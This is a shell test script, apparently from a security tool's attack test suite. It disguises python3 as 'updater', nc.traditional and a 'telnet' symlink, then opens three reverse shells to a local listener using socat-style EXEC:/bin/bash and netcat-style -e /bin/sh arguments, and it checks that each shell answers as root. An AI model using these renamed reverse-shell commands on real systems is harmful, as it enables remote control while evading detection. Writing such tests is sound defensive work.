#!/usr/bin/env bash
# The same with socat's addresses and ncat's options under other names, and with a netcat that becomes the shell itself
# through a link.
# shellcheck source=testdata/attack/common.sh
. "$(dirname "$0")/../common.sh"
own_mounts
own_folder /usr/local/bin

python3 "$peer" operator "$work/port" "$work/answers" 3 &
operator=$!
wait_for "$work/port"
port=$(<"$work/port")
cp "$(readlink -f /usr/bin/python3)" "$work/updater"
"$work/updater" -I "$here/relay.py" "TCP:127.0.0.1:$port" 'EXEC:/bin/bash --norc'
"$work/updater" -I "$here/relay.py" 127.0.0.1 "$port" -e /bin/sh
cp "$(readlink -f /usr/bin/python3)" /usr/local/bin/nc.traditional
ln -s /usr/local/bin/nc.traditional "$work/telnet"
"$work/telnet" -I "$here/relay.py" 127.0.0.1 "$port" --become /bin/sh
wait "$operator"
[[ $(grep -c 'uid=0' "$work/answers") = 3 ]] || fail "not every shell answered"
